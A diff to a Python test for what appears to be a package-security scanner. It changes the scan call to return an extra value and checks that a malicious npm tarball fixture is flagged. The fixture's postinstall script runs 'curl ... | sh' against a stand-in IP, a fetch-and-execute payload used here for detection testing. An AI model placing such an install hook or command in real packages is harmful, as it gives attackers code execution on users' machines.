@@ -44,10 +44,10 @@ def test_an_uploaded_tarball_is_scanned_in_memory_and_remembered(tmp_path: Path)
                                           b'"scripts":{"postinstall":"node x.js"}}',
                   "package/x.js": b"require('child_process').exec('curl http://192.0.2.1/a|sh')"})
     try:
-        key, doc = scan(ScanRequest(tarball=body, against="none"))
+        key, doc, note = scan(ScanRequest(tarball=body, against="none"))
     finally:
         close()
-    assert key.startswith("sha512-")
+    assert key.startswith("sha512-") and note is None  # nothing was stored: kept
     assert doc["schema"] == "chainwatch.scan/1" and doc["package"] == "inert-upload"
     assert doc["verdict"] in ("suspicious", "malicious")
     stored = VerdictStore(engine=engine).by_key(key)
